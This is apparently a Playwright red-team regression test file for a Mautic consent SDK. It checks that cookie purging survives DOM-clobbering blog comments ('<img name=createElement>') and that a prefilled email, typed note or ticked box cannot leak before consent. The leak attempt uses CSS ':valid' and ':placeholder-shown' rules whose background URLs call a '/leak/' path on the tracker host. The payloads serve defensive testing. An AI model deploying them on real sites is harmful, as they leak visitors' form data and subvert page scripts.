// Red-team review, hostile content and purges: each test plays one attack that worked on the code
// before its fix, with a positive control that shows the attack is live in the test.
import type { BrowserContext, Page } from '@playwright/test';
import { test, expect, type Server } from './fixtures';
import { loaderStub, sdkPage } from './support/pages';

const SITE = 'www.shop.localhost';
const MAUTIC = 'm.shop.localhost';
const POST = '/blog/2026/post.html';

/** Mautic-host cookies as the real server leaves them: a landing page with an A/B test and a pixel hit. */
async function seedMauticHost(page: Page, server: Server) {
  await page.goto(server.url(MAUTIC, '/page-3'));
  await page.goto(server.url(MAUTIC, '/mtracking.gif?page_url=x'));
}

const mauticHostCookies = async (context: BrowserContext) => (await context.cookies()).filter((c) => c.domain === MAUTIC).map((c) => c.name).sort();

test.describe('a page element that shadows a document method cannot stop the purge of the Mautic host', () => {
  // User content the site's sanitiser let through (a blog comment): `<img name>` is a named property
  // of the document, which overrides its built-in members (HTML: Document is [LegacyOverrideBuiltIns]).
  const COMMENTS: Record<string, string> = {
    'createElement': '<img name="createElement" src="data:," alt="">',
    'body and documentElement': '<img name="body" src="data:," alt=""><img name="documentElement" src="data:," alt="">',
  };
  for (const [label, comment] of Object.entries(COMMENTS)) {
    test(`${label}: the purge page is asked, the Mautic host emptied and the report names what stays`, async ({ page, context, server }) => {
      server.addPage(POST, sdkPage('iife', { head: loaderStub(), body: `<article class="comment">${comment}</article>`, attrs: { 'data-purge-page': '{{MAUTIC}}/media/files/mautic-purge.html' } }));
      await seedMauticHost(page, server);
      expect(await mauticHostCookies(context)).toEqual(['mautic_device_id', 'mautic_page_3', 'mautic_referer_id', 'mtc_id']);
      await page.goto(server.url(SITE, POST));
      await page.waitForFunction(() => !!(window as any).MauticConsent?.revokeAndPurge);
      // Positive control: the comment does shadow the document's own members.
      const shadowed = await page.evaluate(() => [typeof document.createElement, document.body instanceof HTMLImageElement]);
      expect(shadowed).toEqual(label === 'createElement' ? ['object', false] : ['function', true]);
      const report = await page.evaluate(() => {
        const w = window as any;
        w.purgeEvents = 0;
        w.MauticConsent.on('purge', () => w.purgeEvents++);
        return w.MauticConsent.revokeAndPurge({ source: 'user' });
      });
      expect(await mauticHostCookies(context)).toEqual([]);
      expect(report.deleted).toContainEqual({ name: 'mautic_page_3', kind: 'cookie', where: `${MAUTIC} ${MAUTIC}/` });
      expect(report.unreachable.map((i: { name: string }) => i.name)).toContain('session cookie (32 hex characters, HttpOnly)');
      expect(await page.evaluate(() => (window as any).purgeEvents)).toBe(1);
    });
  }
});

test.describe('fetched CSS cannot read what a form field holds', () => {
  // A campaign link fills the form from the address bar (`?email=…`, Mautic's prefill). Fields
  // whose `pattern` tests one first letter each, and a background from Mautic for the field that
  // matches, would tell Mautic the visitor's address before consent; `:placeholder-shown` tells
  // that a visitor typed, without sending. A rule that only shows an element whose own rule loads
  // splits the condition from the request.
  const LETTERS = 'abcdefghijklmnopqrstuvwxyz'.split('');
  const FIELDS = LETTERS.map((c) => `<input id="p${c}" name="mauticform[email]" pattern="${c}.*"><span id="s${c}"></span>`).join('');
  const CSS = `<style>
    ${LETTERS.map((c) => `#p${c}:valid { background: url({{MAUTIC}}/leak/valid/${c}) }`).join('\n')}
    ${LETTERS.map((c) => `#s${c} { display: none; background-image: url({{MAUTIC}}/leak/shown/${c}) } #p${c}:valid + span { display: block }`).join('\n')}
    #typed:not(:placeholder-shown) { background: url({{MAUTIC}}/leak/typed) }
    #box:checked + label { background: url({{MAUTIC}}/leak/checked) }
    .ok { background: url({{MAUTIC}}/ok/plain) }
  </style>`;
  const FORM = `${CSS}<form method="post" action="{{MAUTIC}}/form/submit?formId=91" id="mauticform_evil">${FIELDS}
    <input id="typed" name="mauticform[note]" placeholder="Note"><input id="box" type="checkbox" name="mauticform[optin]" value="1"><label for="box">Yes</label>
    <div class="ok">x</div><button type="submit">Send</button><input type="hidden" name="mauticform[formId]" value="91"></form>`;

  test('before consent, a prefilled address, a typed note and a ticked box reach Mautic by no stylesheet request', async ({ page, server }) => {
    server.configure({ hostile: { forms: { 91: FORM }, slots: {}, successMessage: null } });
    server.addPage('/landing.html', sdkPage('iife', { body: '<div id="slot" data-mautic-form="91"></div>' }));
    await page.goto(server.url(SITE, '/landing.html?email=victim%40example.com'));
    await expect(page.locator('#slot form')).toBeVisible();
    await page.fill('#typed', 'not sent yet');
    await page.check('#box');
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(300);
    // Positive controls: the prefill ran and the attack's conditions hold; a plain background from Mautic loads.
    expect(await page.locator('#pv').evaluate((el) => [(el as HTMLInputElement).value, el.matches(':valid'), document.querySelector('#pa')!.matches(':valid')])).toEqual(['victim@example.com', true, false]);
    await expect.poll(() => server.mautic('/ok/').map((r) => r.path)).toEqual(['/ok/plain']);
    expect(server.mautic('/leak/').map((r) => r.path)).toEqual([]);
    expect((await page.evaluate(() => (window as any).MauticConsent.state())).tracking).toBe('unset');
  });
});
